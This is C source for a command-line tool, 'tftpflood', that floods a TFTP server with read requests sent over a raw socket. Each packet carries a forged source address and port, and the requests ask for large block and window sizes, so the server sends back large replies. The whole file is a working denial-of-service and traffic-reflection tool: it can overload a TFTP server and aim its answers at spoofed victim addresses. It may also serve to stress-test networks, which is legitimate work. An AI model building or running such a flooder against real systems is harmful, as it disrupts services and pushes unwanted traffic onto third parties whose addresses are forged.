/* tftpflood: read requests whose answers nobody takes, from one address or from forged ones.
 * tftpflood -H SERVER -a ADDRESS [-m BITS] -f NAME [-r PER_SECOND] [-s SECONDS]
 * Each request is from ADDRESS, of which the last BITS are drawn anew each time (0: it is one
 * client), and from a port that is drawn as well. Prints one JSON line. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "flood.h"

struct packet { struct iphdr ip; struct udphdr udp; char data[256]; } __attribute__((packed));

int main(int argc, char **argv) {
    const char *server = 0, *source = 0, *name = 0;
    double rate = 1000, seconds = 10;
    int c, bits = 0;
    while ((c = getopt(argc, argv, "H:a:m:f:r:s:")) != -1) switch (c) {
        case 'H': server = optarg; break; case 'a': source = optarg; break;
        case 'm': bits = atoi(optarg); break; case 'f': name = optarg; break;
        case 'r': rate = atof(optarg); break; case 's': seconds = atof(optarg); break;
        default: return 2;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(69)};
    struct in_addr from;
    if (!server || !source || !name || strlen(name) > 128 || inet_pton(AF_INET, server, &to.sin_addr) != 1
        || inet_pton(AF_INET, source, &from) != 1) { fprintf(stderr, "see tftpflood.c\n"); return 2; }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) { perror("raw socket"); return 1; }
    static const char options[] = "octet\0tsize\0" "0\0blksize\0" "1468\0windowsize\0" "64";
    struct packet packet = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .daddr = to.sin_addr.s_addr}};
    packet.data[1] = 1;
    strcpy(packet.data + 2, name);
    memcpy(packet.data + 3 + strlen(name), options, sizeof options);
    size_t length = 3 + strlen(name) + sizeof options;
    packet.udp.dest = to.sin_port;
    packet.udp.len = htons(sizeof packet.udp + length);
    uint32_t mask = bits ? ~0u >> (32 - bits) : 0;
    unsigned long sent = 0, failed = 0;
    signal(SIGTERM, stop); /* what was sent is told all the same */
    double start = now(), t = start;
    while (!stopped && (t = now()) - start < seconds) {
        if (sent + failed > (t - start) * rate) { /* ahead of its time */
            struct timespec pause = {0, 200000};
            nanosleep(&pause, 0);
            continue;
        }
        packet.ip.saddr = htonl((ntohl(from.s_addr) & ~mask) | (draw() & mask));
        packet.udp.source = htons(1024 + draw() % 60000);
        ssize_t done = sendto(fd, &packet, sizeof packet.ip + sizeof packet.udp + length, 0, (void *)&to, sizeof to);
        if (done < 0) failed++; else sent++;
    }
    printf("{\"seconds\": %.2f, \"sent\": %lu, \"failed\": %lu}\n", t - start, sent, failed);
    return 0;
}
